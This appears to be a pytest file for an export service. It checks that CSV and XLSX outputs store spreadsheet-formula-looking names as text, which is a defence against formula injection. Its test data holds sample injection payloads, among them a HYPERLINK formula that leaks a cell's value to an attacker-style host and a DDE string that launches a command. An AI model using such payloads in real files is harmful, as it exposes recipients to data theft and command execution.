"""Exports are data, never formulas: names and notes beginning with = + - @ stay text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from services.exports import to_csv, to_xlsx
from store.summaries import Line

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B7,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
]


def lines() -> tuple[list[Line], list[Line], Line]:
    units = [Line(key=i, name=name, late_count=-0) for i, name in enumerate(HOSTILE, start=1)]
    people = [
        Line(key=100 + i, name=name, code=f"={i}", unit_id=i, unit_name=name, flags=[name])
        for i, name in enumerate(HOSTILE, start=1)
    ]
    return units, people, Line(key=0, name="Tổng cộng")


@pytest.mark.parametrize("by", ["unit", "employee"])
def test_csv_fields_that_a_spreadsheet_would_evaluate_are_quoted_as_text(by: str) -> None:
    units, people, _ = lines()
    rows = list(csv.reader(io.StringIO(to_csv(units, people, by).decode("utf-8-sig"))))
    texts = [field for row in rows[1:] for field in row if field and not field[0].isdigit()]
    assert texts, "the hostile names are in the file"
    assert all(not field.startswith(("=", "+", "-", "@", "\t")) for field in texts)
    assert f"'{HOSTILE[0]}" in {field for row in rows for field in row}


def test_xlsx_cells_and_sheet_titles_hold_text_not_formulas() -> None:
    units, people, total = lines()
    raw = to_xlsx(
        "=Sở Thử", "Tháng 11/2026", datetime(2026, 12, 1, tzinfo=UTC), units, people, total
    )
    book = load_workbook(io.BytesIO(raw))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula was written"
    values = {c.value for c in cells}
    assert HOSTILE[0] in values and "=cmd|' /C calc'!A0" in values  # kept, as text
    assert all(not title.startswith(("=", "+", "-", "@")) for title in book.sheetnames)
